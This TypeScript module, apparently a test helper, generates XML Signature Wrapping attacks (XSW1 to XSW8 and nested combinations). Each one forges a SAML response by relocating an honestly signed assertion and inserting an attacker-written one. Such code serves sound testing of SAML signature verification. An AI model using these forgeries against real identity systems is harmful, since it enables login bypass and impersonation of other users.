import type { Said, SamlProvider } from './saml-provider.ts'

/*
 * Signature wrapping, in the eight forms that tools for it know (Somorovsky et al., "On Breaking SAML", 2012). Somebody
 * who has one honest answer moves what was signed to where the signature still holds, and puts what they wrote themselves
 * to where it may be read.
 */

const signature = /<Signature [^]*?<\/Signature>/
const wholeAssertion = /<saml:Assertion [^]*<\/saml:Assertion>/

interface Pieces {
  response: string
  responseSignature: string
  assertion: string
  assertionSignature: string
  /** Without its signature. */
  bareAssertion: string
  evilAssertion: string
}

const afterIssuer = (xml: string, added: string): string =>
  xml.replace('</saml:Issuer>', () => `</saml:Issuer>${added}`)
const inSignature = (xml: string, added: string): string => xml.replace('</Signature>', () => `${added}</Signature>`)

/** What stands in the response where the assertion was. */
const assertionForms: Record<string, (pieces: Pieces) => string> = {
  XSW3: ({ evilAssertion, assertion }) => evilAssertion + assertion,
  XSW4: ({ evilAssertion, assertion }) =>
    evilAssertion.replace('</saml:Assertion>', () => `${assertion}</saml:Assertion>`),
  XSW5: ({ evilAssertion, assertionSignature, bareAssertion }) =>
    afterIssuer(evilAssertion, assertionSignature) + bareAssertion,
  XSW6: ({ evilAssertion, assertionSignature, bareAssertion }) =>
    afterIssuer(evilAssertion, inSignature(assertionSignature, bareAssertion)),
  XSW7: ({ evilAssertion, assertion }) => `<samlp:Extensions>${evilAssertion}</samlp:Extensions>${assertion}`,
  XSW8: ({ evilAssertion, assertionSignature, bareAssertion }) =>
    afterIssuer(evilAssertion, inSignature(assertionSignature, `<Object>${bareAssertion}</Object>`)),
}

/** By their names, all documents that can be made so from what was said honestly and what the attacker wants to say. */
export function wrappings(provider: SamlProvider, honest: Said, evil: Said): Record<string, string> {
  const response = provider.write(honest)
  const responseSignature = signature.exec(response)![0]
  const assertion = wholeAssertion.exec(response)![0]
  const assertionSignature = signature.exec(assertion)![0]
  const pieces: Pieces = {
    response,
    responseSignature,
    assertion,
    assertionSignature,
    bareAssertion: assertion.replace(assertionSignature, ''),
    evilAssertion: provider.assertion(evil),
  }
  const bareResponse = response.replace(responseSignature, '')
  const wrapInside = (inner: string) =>
    afterIssuer(provider.response(evil, inner), inSignature(responseSignature, bareResponse))
  const wrapBeside = (inner: string) => afterIssuer(provider.response(evil, inner), bareResponse + responseSignature)
  const made: Record<string, string> = {
    XSW1: wrapInside(pieces.evilAssertion),
    XSW2: wrapBeside(pieces.evilAssertion),
    'XSW1 with a signature on the assertion too': wrapInside(afterIssuer(pieces.evilAssertion, assertionSignature)),
    'XSW2 with a signature on the assertion too': wrapBeside(afterIssuer(pieces.evilAssertion, assertionSignature)),
  }
  for (const [name, form] of Object.entries(assertionForms)) {
    made[name] = response.replace(assertion, () => form(pieces))
    made[`${name} inside XSW1`] = wrapInside(form(pieces))
    made[`${name} inside XSW2`] = wrapBeside(form(pieces))
  }
  return made
}
